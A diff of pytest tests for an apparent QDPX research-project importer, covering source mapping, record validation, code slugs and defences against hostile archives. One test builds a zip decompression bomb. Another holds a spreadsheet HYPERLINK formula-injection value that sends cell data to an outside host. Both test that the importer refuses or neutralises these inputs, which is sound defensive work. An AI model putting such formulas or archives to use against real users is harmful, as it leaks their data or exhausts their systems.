@@ -8,11 +8,15 @@ lands elsewhere."""
 
 from __future__ import annotations
 
+import csv
+import datetime as dt
+import hashlib
 import io
 import json
 import re
 import xml.etree.ElementTree as ET
 import zipfile
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -684,3 +688,245 @@ def test_the_commands_mistakes_are_one_line(
     err = capsys.readouterr().err
     assert message in err
     assert len(err.strip().splitlines()) == 1
+
+
+# ------------------------------------------------------------------------------- review findings
+
+
+def test_a_text_file_named_by_many_sources_is_unpacked_once_and_the_project_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Sixty sources naming one 4 MB text file (a few kB zipped) would unpack 240 MB, past every
+    limit the zip declares: the file is unpacked once, and the second source naming it refuses it."""
+    unpacked = []
+    read = zipfile.ZipExtFile.read
+
+    def counted(self: zipfile.ZipExtFile, n: int = -1) -> bytes:
+        data = read(self, n)
+        unpacked.append(len(data))
+        return data
+
+    monkeypatch.setattr(zipfile.ZipExtFile, "read", counted)
+    sources = "".join(
+        f'<TextSource guid="00000000-0000-4000-8000-{i:012d}" name="s{i}" plainTextPath="internal://big.txt"/>'
+        for i in range(60)
+    )
+    qde = project(f'<User guid="{U1}" name="R01"/>', CODES, sources)
+    path = tmp_path / "bomb.qdpx"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        archive.writestr("project.qde", qde)
+        archive.writestr("sources/big.txt", "a" * 4 * 2**20)
+    assert path.stat().st_size < 100_000
+    with pytest.raises(ObservationError, match=r"the sources s0 and s1 both name the text file sources/big\.txt"):
+        qdpx.read_project(path)
+    assert sum(unpacked) == 4 * 2**20 + len(qde.encode("utf-8"))
+
+
+def test_a_member_or_a_project_past_its_limit_is_refused_having_unpacked_no_more(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(qdpx, "MAX_MEMBER", 5_000)
+    unpacked = []
+    read = zipfile.ZipExtFile.read
+    monkeypatch.setattr(zipfile.ZipExtFile, "read", lambda self, n=-1: unpacked.append(len(d := read(self, n))) or d)
+    sources = (
+        f'<TextSource guid="{S1}" name="one" plainTextPath="internal://one.txt"/>'
+        f'<TextSource guid="{S2}" name="two" plainTextPath="internal://two.txt"/>'
+    )
+    qde = project("", "", sources)
+    path = build(tmp_path, qde, {"sources/one.txt": "a" * 4_000, "sources/two.txt": "b" * 2**20})
+    with pytest.raises(ObservationError, match=r"sources/two\.txt is larger than 0 MB uncompressed"):
+        qdpx.read_project(path)
+    assert sum(unpacked) <= len(qde.encode("utf-8")) + 4_000 + 5_001  # the big one: one byte past its limit
+    monkeypatch.setattr(qdpx, "MAX_MEMBER", 10 * 2**20)
+    monkeypatch.setattr(qdpx, "MAX_TOTAL", 2**20)
+    with pytest.raises(ObservationError, match=r"larger than 1 MB uncompressed; the project is refused"):
+        qdpx.read_project(path)
+    monkeypatch.setattr(qdpx, "MAX_TOTAL", 2 * 2**20)
+    assert [s.text and len(s.text) for s in qdpx.read_project(path).sources] == [4_000, 2**20]
+
+
+def two_sources(tmp_path: Path, first: str, second: str) -> tuple[Path, list[qdpx.Mapping]]:
+    """Two sources, each with one coding of Voice, both mapped to the new interview with KI-09."""
+    sources = (
+        f'<TextSource guid="{S1}" name="first"><PlainTextContent>{first}</PlainTextContent>'
+        + selection("a0000000-0000-4000-8000-00000000a001", (0, 5), C_VOICE, U1)
+        + f'</TextSource><TextSource guid="{S2}" name="second"><PlainTextContent>{second}</PlainTextContent>'
+        + selection("a0000000-0000-4000-8000-00000000a002", (6, 10), C_VOICE, U1)
+        + "</TextSource>"
+    )
+    path = build(tmp_path, project(f'<User guid="{U1}" name="R01"/>', CODES, sources))
+    rows = [qdpx.Mapping(n, g, "new interview", "", "2020-02-14", "KI-09", "carer") for n, g in (("first", S1),
+            ("second", S2))]  # fmt: skip
+    return path, rows
+
+
+def test_two_sources_as_one_new_interview_are_refused_unless_their_texts_are_the_same(
+    study: duckdb.DuckDBPyConnection, tmp_path: Path
+) -> None:
+    path, rows = two_sources(tmp_path, "Short text one about the bus.", "Another transcript: the bus was late.")
+    (problem,) = refused(study, path, rows)
+    assert problem == (
+        "theirs.qdpx:second:informant_code: 'KI-09' — two sources are the same new interview (this one and "
+        "'first') and their texts differ: map one to another informant, or skip it"
+    )
+    later = [rows[0], replace(rows[1], date="2020-02-15")]
+    path, _ = two_sources(tmp_path, "The same text, twice.", "The same text, twice.")
+    (problem,) = refused(study, path, later)
+    assert "and their group, date or team differ" in problem
+    imported = qdpx.import_project(study, path, rows)
+    assert (imported.interviews, imported.created) == (1, 2)
+    assert {s for s in segments(study) if s[0] == "interview KI-09"} == {
+        ("interview KI-09", "presence.voice", "R01", 0, 5), ("interview KI-09", "presence.voice", "R01", 6, 10)
+    }  # fmt: skip
+
+
+def rewritten(path: Path, out: Path, change: Any, source: str = "Field notes — Alpha — 2020-01-24") -> Path:
+    """Our own export at ``path``, the record of ``source`` changed by ``change(record, element,
+    texts, root)`` (texts: each member's text, to change too), written to ``out``."""
+    ET.register_namespace("", qdpx.NS)
+    root, texts = opened(path)
+    element = next(e for e in root.findall("q:Sources/q:TextSource", Q) if e.get("name") == source)
+    description = element.find("q:Description", Q)
+    said, last = (description.text or "").rsplit("\n", 1)  # type: ignore[union-attr]
+    record = json.loads(last.removeprefix(qdpx.RECORD))
+    change(record, element, texts, root)
+    description.text = f"{said}\n{qdpx.RECORD}{json.dumps(record)}"  # type: ignore[union-attr]
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("project.qde", ET.tostring(root, encoding="utf-8"))
+        for member, text in texts.items():
+            archive.writestr(member, text.encode("utf-8"))
+    return out
+
+
+def note(n: int, **fields: object) -> Any:
+    def change(record: dict[str, Any], element: ET.Element, texts: dict[str, str], _: ET.Element) -> None:
+        record["notes"][n].update(fields)
+
+    return change
+
+
+def meeting(**fields: object) -> Any:
+    def change(record: dict[str, Any], element: ET.Element, texts: dict[str, str], _: ET.Element) -> None:
+        record.update(fields)
+
+    return change
+
+
+def tab_in_note(record: dict[str, Any], element: ET.Element, texts: dict[str, str], _: ET.Element) -> None:
+    member = f"sources/{element.get('guid')}.txt"
+    texts[member] = texts[member].replace("Zoë said", "Zoë\x0bsaid")
+
+
+@pytest.mark.parametrize(
+    ("change", "expected"),
+    [
+        (note(0, author=""), "note 1: author: '' — must not be empty"),
+        (note(0, author=None), "note 1: author: 'None' — must not be empty"),
+        (note(0, author="OB\n01"), "note 1: author: 'OB\\n01' — must be one line"),
+        (note(1, author="x" * 101), "(101 characters)' — 101 characters; at most 100"),
+        (note(0, minute=-1), "note 1: minute: '-1' — must be from 0 to 1,440"),
+        (note(0, minute="soon"), "note 1: minute: 'soon' — not a whole number"),
+        (note(0, minute=True), "note 1: minute: 'True' — not a whole number"),
+        (note(0, written_at="yesterday"), "note 1: written_at: 'yesterday' — not a date and time"),
+        (note(0, position=0), "note 1: position: '0' — must be from 1 to 10,000"),
+        (note(1, position=1), "note 2: position: '1' — two notes of the meeting have this position"),
+        (note(1, end=10**6), "note 2: end: '1000000' — must be from 1 to"),
+        (note(1, start=3), "notes: '0–"),
+        (meeting(status="maybe"), "status: 'maybe' — not a known status"),
+        (meeting(format=7), "format: '7' — not a text"),
+        (tab_in_note, "note 1: body:"),
+    ],
+)
+def test_a_new_meetings_record_is_checked_as_every_writer_checks_it(
+    study: duckdb.DuckDBPyConnection, tmp_path: Path, change: Any, expected: str
+) -> None:
+    qdpx.export_project(study, tmp_path / "p.qdpx")
+    path = rewritten(tmp_path / "p.qdpx", tmp_path / "changed.qdpx", change)
+    fresh = db.connect(tmp_path / "empty.duckdb")
+    try:
+        problems = refused(fresh, path, None)
+    finally:
+        fresh.close()
+    assert len(problems) == 1, problems
+    assert problems[0].startswith("changed.qdpx:Field notes — Alpha — 2020-01-24:")
+    assert expected in problems[0]
+
+
+def test_a_new_meetings_written_at_and_minute_are_kept_and_two_sources_of_it_must_agree(
+    study: duckdb.DuckDBPyConnection, tmp_path: Path
+) -> None:
+    qdpx.export_project(study, tmp_path / "p.qdpx")
+    path = rewritten(tmp_path / "p.qdpx", tmp_path / "when.qdpx", note(0, written_at="2020-01-24T11:00:00+01:00"))
+    fresh = db.connect(tmp_path / "empty.duckdb")
+    try:
+        qdpx.import_project(fresh, path)
+        got = fresh.execute("select minute, written_at from field_notes where body = ?", [NOTE_7]).fetchall()
+        assert got == [(2, dt.datetime(2020, 1, 24, 10, 0))]  # in UTC
+    finally:
+        fresh.close()
+
+    def twice(record: dict[str, Any], element: ET.Element, texts: dict[str, str], root: ET.Element) -> None:
+        """The meeting's source again, as another source whose text says car for bus."""
+        copy = ET.fromstring(ET.tostring(element))
+        copy.attrib.update({"guid": S3, "name": "Copy", "plainTextPath": f"internal://{S3}.txt"})
+        for each in copy.iter(f"{{{qdpx.NS}}}PlainTextSelection"):
+            each.set("guid", f"{each.get('guid', '')[:-4]}beef")
+        texts[f"sources/{S3}.txt"] = texts[f"sources/{element.get('guid')}.txt"].replace("bus", "car")
+        root.find("q:Sources", Q).append(copy)  # type: ignore[union-attr]
+
+    path = rewritten(tmp_path / "p.qdpx", tmp_path / "twice.qdpx", twice)
+    fresh = db.connect(tmp_path / "empty2.duckdb")
+    try:
+        (problem,) = refused(fresh, path, None)
+    finally:
+        fresh.close()
+    assert problem.startswith("twice.qdpx:Copy:team, date: 'Alpha 2020-01-24' — two sources are the same new meeting")
+    assert "(this one and 'Field notes — Alpha — 2020-01-24') and their texts differ" in problem
+
+
+def test_codes_named_in_any_script_get_slugs_the_schema_takes_and_siblings_never_share_one(
+    study: duckdb.DuckDBPyConnection, tmp_path: Path
+) -> None:
+    names = ["等待", "交通", "Φωνή", "présence", "Présence!", "Ζ 2"]
+    guids = [f"e{n}e{n}e{n}e{n}-0000-4000-8000-00000000000{n}" for n in "123456"]
+    codes = "".join(f'<Code guid="{g}" name="{n}" isCodable="true"/>' for g, n in zip(guids, names, strict=True))
+    text = "患者说公共汽车又晚了，没有人来。我们等了一个小时。"
+    sources = (
+        f'<TextSource guid="{S2}" name="KI-09 transcript"><PlainTextContent>{text}</PlainTextContent>'
+        + "".join(selection(f"a0000000-0000-4000-8000-00000000a00{i}", (i, i + 2), g, U1) for i, g in enumerate(guids))
+        + "</TextSource>"
+    )
+    path = build(tmp_path, project(f'<User guid="{U1}" name="王芳"/>', codes, sources))
+    rows = [qdpx.Mapping("KI-09 transcript", S2, "new interview", "", "2020-02-14", "KI-09", "carer")]
+    imported = qdpx.import_project(study, path, rows)
+    assert (imported.codes, imported.created) == (5, 6)  # présence is the study's Presence (presence)
+    slugs = [slug for (slug,) in study.execute(
+        "select c.slug from coded_segments as s join codes as c on c.id = s.code_id "
+        "join interviews as i on i.id = s.interview_id where i.informant_code = 'KI-09' order by s.span_start"
+    ).fetchall()]  # fmt: skip
+
+    def hashed(guid: str) -> str:
+        return "code_" + hashlib.sha256(guid.encode()).hexdigest()[:6]
+
+    assert slugs == [hashed(guids[0]), hashed(guids[1]), hashed(guids[2]), "presence", "presence_2", "2"]
+    assert study.execute("select name from codes where slug = 'presence_2'").fetchall() == [("Présence!",)]
+    assert all(re.fullmatch(r"[a-z0-9_]+(\.[a-z0-9_]+)*", s) for s in slugs)
+    back = [replace(rows[0], maps_to="interview")]
+    again = qdpx.import_project(study, path, back)  # the same slugs: found again, nothing added
+    assert (again.codes, again.created, again.skipped) == (0, 0, 6)
+
+
+def test_the_mapping_csv_never_offers_a_spreadsheet_a_formula_and_reads_back_as_written(tmp_path: Path) -> None:
+    source = '=HYPERLINK("http://example.org/?"&A2, "Click")'
+    rows = [
+        qdpx.Mapping(source, S1, "skip", how="no guess: say what it is"),
+        qdpx.Mapping("'quoted already", S2, "new interview", "+Alpha", "2020-02-14", "-KI-09", "carer", "@x"),
+    ]
+    written = qdpx.mapping_csv(rows)
+    cells = [c for line in written.splitlines()[1:] for c in next(csv.reader([line]))]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert cells[0] == "'" + source
+    path = tmp_path / "map.csv"
+    path.write_text(written, encoding="utf-8")
+    assert qdpx.read_mapping(path) == rows
